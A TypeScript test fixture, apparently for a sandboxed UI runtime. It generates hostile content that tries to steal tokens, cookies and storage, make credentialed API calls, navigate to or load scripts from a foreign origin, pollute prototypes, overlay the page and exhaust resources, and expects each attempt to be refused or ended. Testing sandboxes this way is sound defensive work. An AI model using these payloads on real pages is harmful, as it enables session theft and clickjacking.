/** Attack of a hostile content with its only acceptable outcomes. */
export interface Attack {
  readonly name: string;
  /** `refused`: it draws what it reached, which is nothing. `ended`: the page ends the content. */
  readonly outcome: 'refused' | 'ended';
}

/** Attacks of the hostile content below. */
export const ATTACKS: readonly Attack[] = [
  { name: 'token', outcome: 'refused' },
  { name: 'storage', outcome: 'refused' },
  { name: 'dom', outcome: 'ended' },
  { name: 'api', outcome: 'refused' },
  { name: 'history', outcome: 'refused' },
  { name: 'navigation', outcome: 'ended' },
  { name: 'flood', outcome: 'ended' },
  { name: 'loop', outcome: 'ended' },
  { name: 'tree', outcome: 'ended' },
  { name: 'prototype', outcome: 'ended' },
  { name: 'overlay', outcome: 'ended' },
  { name: 'network', outcome: 'refused' },
];

/** Creates a content that tries each attack with what the runtime offers and with raw messages. */
export function createHostileContent(foreignOrigin: string): string {
  return `
    import { createElement, defineSandboxedContent } from '@vidra/remote-kit/sandbox';
    const raw = (changes) => postMessage(JSON.stringify({ changes, events: [] }));
    const insert = (properties, extra = {}) =>
      [0, '~', { id: '900', type: 1, element: 'ui-button', properties, children: [], ...extra }, 0];
    /** Names of the attempts that reached something. */
    const attempt = async (attempts) => {
      const results = await Promise.all(Object.entries(attempts).map(async ([name, run]) => {
        try {
          const value = await Promise.race([
            run(), new Promise((_, reject) => setTimeout(reject, 3000)),
          ]);
          return value === undefined || value === null || value === '' ? [] : [name];
        } catch { return []; }
      }));
      return results.flat();
    };
    const attacks = {
      token: () => attempt({
        local: () => localStorage.getItem('session') ?? 'storage',
        session: () => sessionStorage.length + 1,
        parent: () => parent.localStorage,
        cookie: () => document.cookie,
        message: () => new Promise((resolve) => addEventListener('message', ({ data }) => {
          if (/Bearer|eyJ/.test(String(data))) resolve(data);
        })),
      }),
      storage: () => attempt({
        database: () => new Promise((resolve, reject) => {
          const request = indexedDB.open('stolen');
          request.onsuccess = () => resolve('opened');
          request.onerror = reject;
        }),
        // WebKit lets it open caches of its own origin, which nobody else has.
        caches: async () => {
          await caches.open('stolen');
          return (await caches.keys()).filter((name) => name !== 'stolen').join();
        },
        files: () => navigator.storage.getDirectory(),
        cookies: () => cookieStore.getAll(),
        lock: () => navigator.locks.request('x', () => 'locked'),
      }),
      dom: () => { root.append(document.createElement('script')); },
      api: () => attempt({
        account: () => fetch('http://' + siteHost + '/api/v1.0/account', { credentials: 'include' }).then((answer) => answer.text()),
        blind: () => fetch('http://' + siteHost + '/api/v1.0/account', { mode: 'no-cors', credentials: 'include' }).then(() => 'sent'),
      }),
      history: () => attempt({
        push: () => { history.pushState(null, '', '/stolen'); return 'pushed'; },
        back: () => { top.history.back(); return 'went'; },
        replace: () => { location.replace('/stolen'); return 'replaced'; },
      }),
      navigation: async () => {
        await attempt({
          top: () => { top.location.href = '${foreignOrigin}/top'; },
          open: () => open('${foreignOrigin}/open'),
          press: () => {
            const link = createElement('ui-link', { href: '${foreignOrigin}/link' }, 'Link');
            root.append(link);
            link.click?.();
            link.dispatchEvent(new Event('click'));
            return root.callRemoteMethod('click');
          },
        });
        root.append(createElement('ui-link', { href: 'java' + 'script:document.title="stolen"' }, 'Link'));
      },
      flood: () => { for (let turn = 0; turn < 200_000; turn += 1) raw([]); },
      loop: () => { for (;;); },
      tree: () => {
        for (let turn = 0; turn < 2_000; turn += 1) root.append(createElement('ui-text', {}, 'Text'));
      },
      prototype: () => {
        const polluted = JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}');
        postMessage('{"changes":[[0,"~",{"id":"900","type":1,"element":"ui-button","properties":{"__proto__":{"polluted":true}},"children":[]},0],' +
          '[3,"900","__proto__",{"polluted":true}]],"events":[]}');
        return polluted;
      },
      overlay: () => raw([insert({ style: 'position:fixed;inset:0;opacity:0', className: 'cover' })]),
      network: () => attempt({
        fetch: () => fetch('${foreignOrigin}/fetch', { mode: 'no-cors' }),
        request: () => new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.open('GET', '${foreignOrigin}/request');
          request.onload = resolve;
          request.onerror = reject;
          request.send();
        }),
        socket: () => new Promise((resolve, reject) => {
          const socket = new WebSocket('${foreignOrigin}/socket'.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
        events: () => new Promise((resolve, reject) => {
          const events = new EventSource('${foreignOrigin}/events');
          events.onopen = resolve;
          events.onerror = reject;
        }),
        scripts: () => { importScripts('${foreignOrigin}/scripts'); return 'loaded'; },
        module: () => import(/* webpackIgnore: true */ '${foreignOrigin}/module'),
        data: () => import(/* webpackIgnore: true */ 'data:text/javascript,export default 1'),
        blob: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
        evaluate: () => eval('1'),
      }),
    };
    let root;
    let siteHost;
    defineSandboxedContent('stage.hostile', (content) => {
      if (root) return;
      root = content.root;
      siteHost = content.data.host;
      Promise.resolve(attacks[content.data.attack]()).then((reached) => {
        if (Array.isArray(reached))
          root.append(createElement('ui-text', {}, 'Reached: ' + (reached.join(', ') || 'nothing')));
      });
    });`;
}
